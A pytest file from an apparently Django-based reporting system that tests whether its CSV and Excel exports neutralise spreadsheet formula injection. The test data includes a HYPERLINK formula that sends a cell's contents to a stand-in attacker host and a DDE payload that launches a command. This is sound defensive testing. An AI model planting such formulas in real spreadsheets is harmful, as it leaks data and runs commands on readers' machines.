"""Every spreadsheet and CSV file PMIS writes keeps text as text: a formula planted in
commentary, a title or an uploaded cell never runs in the reader's spreadsheet program."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from imports.workbooks import marked, returns_template
from indicators.models import Indicator, Outturn
from pmis.spreadsheets import csv_cell
from reviews.pack_exports import SECTIONS, pack_xlsx
from tests.indicators.factories import IndicatorFactory, period
from tests.reviews.world import World

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Figures stay figures, and text that starts otherwise is untouched.
        ("-3.5", "-3.5"),
        ("-£1,200.50", "-£1,200.50"),
        ("-12.5%", "-12.5%"),
        ("+4", "+4"),
        ("Cost = £4", "Cost = £4"),
        (D("-3.5"), D("-3.5")),
        (-7, -7),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_take_for_a_formula_are_neutralised(value, written):
    assert csv_cell(value) == written


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def the_formula_is_text(content: bytes) -> None:
    cells = [cell for cell in xlsx_cells(content) if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


def csv_lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def world(db, client):
    made = World()
    Indicator.objects.filter(pk=made.red.pk).update(title=FORMULA)
    Outturn.objects.filter(indicator=made.red, period=made.quarter).update(commentary=FORMULA)
    client.force_login(made.people["scrutiny"])
    return made


def test_scorecard_downloads(client, world):
    url = reverse("reviews:scorecard", args=["council-scorecard"])
    the_formula_is_text(client.get(url, {"period": world.quarter.pk, "export": "xlsx"}).content)
    lines = csv_lines(client.get(url, {"period": world.quarter.pk, "export": "csv"}).content)
    h1 = next(line for line in lines if line[0] == "H1")
    assert h1[1] == h1[-1] == "'" + FORMULA
    assert all(cell == "'" + FORMULA or FORMULA not in cell for line in lines for cell in line)


def test_exception_report_downloads(client, world):
    url = reverse("reviews:exception-report")
    query = {"scope": "portfolio", "pk": world.housing.pk, "period": world.quarter.pk}
    the_formula_is_text(client.get(url, {**query, "export": "xlsx"}).content)
    lines = csv_lines(client.get(url, {**query, "export": "csv"}).content)
    assert sorted({cell for line in lines for cell in line if FORMULA in cell}) == ["'" + FORMULA]


def test_pack_workbook():
    _, key, columns = SECTIONS[1]
    data = {"title": "Housing PRT", "date": "2026-02-02", key: [{field: FORMULA for _, field, _ in columns}]}
    the_formula_is_text(pack_xlsx(data).content)


@pytest.mark.django_db
def test_open_data_csv(client):
    IndicatorFactory(title=FORMULA, is_published=True)
    lines = csv_lines(client.get(reverse("public:download-indicators", args=["csv"])).content)
    assert "'" + FORMULA in lines[1] and FORMULA not in lines[1]


def test_an_uploaded_csv_shown_back_with_its_problems():
    out = io.StringIO()
    csv.writer(out).writerows([["indicator_code", "period", "value", "commentary"], ["ENV3", "2025/26 Q2", 5, FORMULA]])
    content = marked(data=out.getvalue().encode(), filename="returns.csv", errors=[])
    the_formula_is_text(content)


@pytest.mark.django_db
def test_the_returns_template():
    indicator = IndicatorFactory(title=FORMULA)
    content = returns_template(
        rows=[{"indicator": indicator, "target": D("5"), "last": D("-2")}], period=period("2025/26 Q2"), title="Q2"
    )
    the_formula_is_text(content)
    numbers = [cell for cell in xlsx_cells(content) if cell.value in (5, -2)]
    assert len(numbers) == 2 and all(cell.data_type == "n" for cell in numbers)
